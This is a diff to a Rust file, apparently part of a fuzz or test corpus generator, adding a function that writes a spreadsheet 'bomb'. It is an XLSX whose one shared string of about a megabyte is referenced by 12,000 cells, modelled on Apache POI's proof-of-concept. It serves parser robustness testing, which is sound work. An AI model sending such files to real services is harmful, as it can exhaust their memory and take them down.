@@ -146,3 +146,70 @@ pub fn lying_string_count(workbook: &[u8], out: &Path) -> Result<(), Error> {
     strings.declared = u32::try_from(xml.len())?;
     write_zip(out, &parts)
 }
+
+/// A shared-strings table built to blow up readers that expand a text per cell, in the shape of
+/// Apache POI's `poc-shared-strings.xlsx`: one string of about a megabyte, referenced by every
+/// one of 12,000 cells (1,200 rows × 10 columns), deflated to a few tens of kilobytes. A reader
+/// that folds or copies the text per cell handles 12 GB.
+pub fn repeated_huge_string(out: &Path) -> Result<(), Error> {
+    const NS: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+    const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    const PKG: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
+    let huge = format!("{} ", "A".repeat(1000)).repeat(1000);
+    let mut sheet =
+        format!(r#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}"><sheetData>"#);
+    for r in 1..=1200 {
+        sheet.push_str(&format!(r#"<row r="{r}">"#));
+        for c in b'A'..=b'J' {
+            sheet.push_str(&format!(r#"<c r="{}{r}" t="s"><v>0</v></c>"#, c as char));
+        }
+        sheet.push_str("</row>");
+    }
+    sheet.push_str("</sheetData></worksheet>");
+    let parts: [(&str, String); 6] = [
+        (
+            "[Content_Types].xml",
+            r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>"#
+            .to_owned(),
+        ),
+        (
+            "_rels/.rels",
+            format!(
+                r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
+            ),
+        ),
+        (
+            "xl/workbook.xml",
+            format!(
+                r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS}" xmlns:r="{REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#
+            ),
+        ),
+        (
+            "xl/_rels/workbook.xml.rels",
+            format!(
+                r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#
+            ),
+        ),
+        (
+            "xl/sharedStrings.xml",
+            format!(
+                r#"<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="12000" uniqueCount="1"><si><t>{huge}</t></si></sst>"#
+            ),
+        ),
+        ("xl/worksheets/sheet1.xml", sheet),
+    ];
+    let mut buf = Cursor::new(Vec::new());
+    {
+        let mut w = zip::ZipWriter::new(&mut buf);
+        let opts = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated)
+            .last_modified_time(zip::DateTime::default());
+        for (name, content) in parts {
+            w.start_file(name, opts)?;
+            w.write_all(content.as_bytes())?;
+        }
+        w.finish()?;
+    }
+    std::fs::write(out, buf.into_inner())?;
+    Ok(())
+}
